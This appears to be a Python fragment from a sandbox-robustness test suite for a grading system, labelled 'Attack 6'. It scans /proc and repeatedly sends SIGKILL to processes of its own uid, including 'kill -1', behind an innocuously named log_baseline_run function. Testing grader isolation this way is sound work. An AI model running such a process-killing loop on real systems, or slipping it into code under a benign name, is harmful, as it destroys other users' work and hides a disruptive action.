# Attack 6: SIGKILL every process of its own uid (``kill -1`` too), again and again
# for a few seconds per call: a classmate graded at the same time must not notice.
def _processes():
    table = {}
    for entry in _os.listdir("/proc") if _os.path.isdir("/proc") else []:
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/stat") as handle:
                    ppid = int(handle.read().rsplit(")", 1)[1].split()[1])
                table[int(entry)] = (ppid, _os.stat(f"/proc/{entry}").st_uid)
            except (OSError, IndexError, ValueError):
                pass
    return table


def _this_run():
    """Pids of this grading run (the ``kata grade`` process that names the class)."""
    marker = CTX["run_marker"].encode()
    roots = set()
    for pid in _processes():
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                if marker in handle.read():
                    roots.add(pid)
        except OSError:
            pass
    return roots


def _victims(roots):
    table, me, uid = _processes(), _os.getpid(), _os.getuid()
    if not isolated():  # the host's namespace: only this run's processes (see isolated)
        members, grew = set(roots), True
        while grew:
            grown = members | {pid for pid, (ppid, _) in table.items() if ppid in members}
            grew, members = grown != members, grown
        table = {pid: row for pid, row in table.items() if pid in members}
    return [pid for pid, (_, owner) in table.items() if owner == uid and pid != me]


def _kill_for(seconds):
    killed, errors = set(), set()
    roots = set() if isolated() else _this_run()
    deadline = _time.monotonic() + seconds
    while _time.monotonic() < deadline:
        for pid in _victims(roots):
            try:
                _os.kill(pid, 9)
                killed.add(pid)
            except OSError as error:
                errors.add(error.strerror)
        if isolated():
            try:
                _os.kill(-1, 9)
            except OSError as error:
                errors.add(error.strerror)
        _time.sleep(0.05)
    return {"killed": sorted(killed)[:50], "errors": sorted(errors), "isolated": isolated()}


def log_baseline_run(data_path, experiment_name="devops-baseline"):
    raise RuntimeError(attack_report(_kill_for(1.5)))
